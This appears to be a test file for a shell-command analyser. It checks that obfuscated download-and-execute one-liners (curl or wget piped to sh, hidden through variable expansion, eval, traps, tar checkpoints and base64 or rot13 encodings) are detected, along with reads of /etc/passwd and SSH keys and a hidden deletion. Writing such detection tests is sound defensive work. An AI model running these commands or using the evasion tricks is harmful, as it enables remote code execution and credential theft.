import { Buffer } from 'node:buffer';
import { deflateSync, gzipSync } from 'node:zlib';
import { testFlows, testUses } from '../table';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const dollar = '$';

describe('Shell: names taken apart', () => {
	const flow = ['https://a.example/x > run by sh'];
	testFlows('shell', [
		['a variable that is not set', `c${dollar}{u}url https://a.example/x | s${dollar}{z}h`, flow],
		['no arguments', 'cu$@rl https://a.example/x | sh', flow],
		['white space from IFS', `curl$IFS-s${dollar}{IFS}https://a.example/x|sh`, flow],
		['braces', '{curl,-s,https://a.example/x} | sh', flow],
		['an array', 'a=(curl -s https://a.example/x); "${a[@]}" | sh', flow],
		['elements of an array', 'a=(x curl https://a.example/x); ${a[1]} ${a[2]} | sh', flow],
		['keys of an array', 'declare -A m=([c]=curl [u]=https://a.example/x); ${m[c]} ${m[u]} | sh', flow],
		['an array built up', 'a=(); a+=(curl); a+=(https://a.example/x); "${a[@]}" | sh', flow],
		['a prefix removed', 'u=xxhttps://a.example/x; curl ${u#xx} | sh', flow],
		['the longest prefix removed', 'u=a/b/chttps://a.example/x; curl ${u##*/b/c} | sh', flow],
		['a suffix removed', 'u=https://a.example/x.txt; curl ${u%.*} | sh', flow],
		['letters replaced', 'u=hxxps://a.example/x; curl ${u//xx/tt} | sh', flow],
		['a slice', 'u=..https://a.example/x..; curl ${u:2:19} | sh', flow],
		['lower case', 'u=HTTPS://A.EXAMPLE/x; curl ${u,,} | sh', flow],
		['indirection', 'real=https://a.example/x; n=real; curl ${!n} | sh', flow],
		[
			'a function with a local variable',
			'f() { local u="$1"; curl -s "$u"; }; f https://a.example/x | sh',
			flow,
		],
		['a function that prints', 'u() { echo https://a.example/x; }; curl $(u) | sh', flow],
		['an alias', "alias g='curl -s'; g https://a.example/x | sh", flow],
		['positional parameters', 'set -- curl https://a.example/x; "$1" "$2" | sh', flow],
		[
			'a loop that writes letters',
			's=; for c in 63 75 72 6c; do s="$s$(printf "\\x$c")"; done; $s https://a.example/x | sh',
			flow,
		],
		['arithmetic', 'n=$((3 * 4 + 10)); u[22]=https://a.example/x; curl ${u[$n]} | sh', flow],
		['printf into a variable', 'printf -v u "https://%s/%s" a.example x; curl $u | sh', flow],
		['read from a here-string', 'read -r c u <<< "curl https://a.example/x"; $c $u | sh', flow],
		['cut out of a text', "curl $(echo 'x,https://a.example/x,y' | cut -d, -f2) | sh", flow],
		['changed by sed', "curl $(echo 'https://b.example/x' | sed 's/b.ex/a.ex/') | sh", ['? > run by sh']],
		['changed by sed, plainly', "curl $(echo 'httpsQ//a.example/x' | sed 's/Q/:/') | sh", flow],
		['single letters dropped', "curl $(echo 'h-t-t-p-s://a.exam-ple/x' | tr -d -) | sh", flow],
		['quotes around letters', `"c"'u'r\\l https://a.example/x | sh`, flow],
		['a locale string', '$"curl" https://a.example/x | sh', flow],
		['busybox', 'busybox wget -O- https://a.example/x | busybox sh', flow],
		['wrappers', 'nohup env A=b timeout 5 nice -n 3 command curl https://a.example/x | sudo -u x sh', flow],
		['a command in pieces, evaluated', 'x=\'curl https://a.example/x\'; eval "$x | sh"', flow],
		['shells in shells', `bash -c "sh -c 'curl https://a.example/x | sh'"`, flow],
		['backquotes', 'sh -c "`curl https://a.example/x`"', ['https://a.example/x > run by sh -c']],
		[
			'escaped backquotes',
			'eval "`echo \\`curl https://a.example/x\\``"',
			['https://a.example/x > run by eval'],
		],
		['xargs', 'echo https://a.example/x | xargs curl | sh', flow],
		['xargs with a place', "echo https://a.example/x | xargs -I{} sh -c 'curl {} | sh'", flow],
		['find', "find . -exec sh -c 'curl https://a.example/x | sh' \\;", flow],
		['a descriptor', 'exec 3< <(curl https://a.example/x); sh <&3', flow],
		['a trap', "trap 'curl https://a.example/x | sh' EXIT", flow],
		['a prompt', "PROMPT_COMMAND='curl https://a.example/x | sh'", flow],
		['awk', `awk 'BEGIN { system("curl https://a.example/x | sh") }'`, flow],
		['perl', `perl -e 'system("curl https://a.example/x | sh")'`, flow],
		['AppleScript', `osascript -e 'do shell script "curl https://a.example/x | sh"'`, flow],
		[
			'tar',
			"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='curl https://a.example/x | sh'",
			flow,
		],
		['a remote shell', "ssh u@b.example 'curl https://a.example/x | sh'", flow],
		['a container', "docker run --rm image sh -c 'curl https://a.example/x | sh'", flow],
		[
			'both branches',
			'if a; then H=a.example; else H=b.example; fi; curl https://$H/x | sh',
			['https://a.example/x > run by sh', 'https://b.example/x > run by sh'],
		],
		[
			'a default that an alternative sets',
			'U=https://a.example/x || U=https://b.example/x; curl $U | sh',
			['https://a.example/x > run by sh', 'https://b.example/x > run by sh'],
		],
	]);
	testUses('shell', [
		[
			'a disguised name is told',
			'c\\url https://a.example/',
			['shell curl https://a.example/ via disguised command name'],
		],
		[
			'look-alike letters are told',
			'сurl https://a.example/',
			['shell curl https://a.example/ via disguised command name'],
		],
		[
			'quotes around the whole are no disguise',
			'"curl" https://a.example/',
			['shell curl https://a.example/'],
		],
		['an alias left out is no disguise', '\\curl https://a.example/', ['shell curl https://a.example/']],
		['a slash from the home directory', 'cat ${HOME:0:1}etc${HOME:0:1}passwd', ['read /etc/passwd']],
		['wildcards in a path', 'cat /etc/pass?d ~/.s*h/id_[r]sa', ['read /etc/pass?d', 'read ~/.s*h/id_[r]sa']],
	]);
});

describe('Shell: encodings', () => {
	const run = (encoding: string) => [`${encoding}: touch here > run by sh`];
	const code = 'touch here';
	testFlows('shell', [
		['base64 with cluttered options', `echo ${base64(code)} | base64 -id | sh`, run('base64')],
		['base64 twice', `echo ${base64(base64(code))} | base64 -d | base64 -d | sh`, run('base64+base64')],
		['base32', 'echo ORXXKY3IEBUGK4TF | base32 -d | sh', run('base32')],
		['octal and hexadecimal escapes', `printf '\\164\\157\\165\\143\\x68 here' | sh`, run('escapes')],
		['echo -e', `echo -ne '\\x74\\x6f\\x75\\x63\\x68 here' | sh`, run('escapes')],
		['rot13', "echo -n 'gbhpu urer' | tr a-z n-za-m | sh", run('rot13')],
		['reversed', "echo -n 'ereh hcuot' | rev | sh", run('reversed')],
		['gzip', `echo ${gzipSync(code).toString('base64')} | base64 -d | zcat | sh`, run('base64+gzip')],
		[
			'zlib, which is not decoded on the way',
			`echo ${deflateSync(code).toString('base64')} | base64 -d | zlib-flate -uncompress | sh`,
			['base64+zlib-flate: ? > run by sh'],
		],
		[
			'a cipher',
			`echo ${base64('Salted__xxxxxxxxxxxx')} | openssl enc -d -aes-256-cbc -a -k x | sh`,
			['openssl: ? > run by sh'],
		],
		[
			'a blob from a variable',
			`B='${base64(code)}'; sh -c "$(base64 -d <<< "$B")"`,
			[`base64: ${code} > run by sh -c`],
		],
		['a blob in a here-document', `base64 -d <<'X' | sh\n${base64(code)}\nX`, run('base64')],
		[
			'a blob piece by piece',
			`{ echo -n ${base64(code).slice(0, 8)}; echo ${base64(code).slice(8)}; } | base64 -d | sh`,
			run('base64'),
		],
		['a blob that is not known', 'echo "$1" | base64 -d > x; sh x', ['arguments of the script > run by sh']],
		[
			'PowerShell',
			`powershell -enc ${Buffer.from('Get-Item x', 'utf16le').toString('base64')}`,
			['base64: Get-Item x > run by powershell -EncodedCommand'],
		],
		[
			'an interpreter reads it',
			`echo ${base64('import os')} | base64 -d | python3`,
			['base64: import os > run by python3'],
		],
	]);
	testUses('shell', [
		[
			'what is hidden is told with its encodings',
			`echo ${base64(base64('curl -s https://a.example/x'))} | base64 -d | base64 -d | sh`,
			['download https://a.example/x via base64+base64'],
		],
		[
			'what is hidden in Python',
			`echo ${base64("import os\nos.system('rm -rf y')")} | base64 -d | python3`,
			['delete y via base64'],
		],
	]);
});
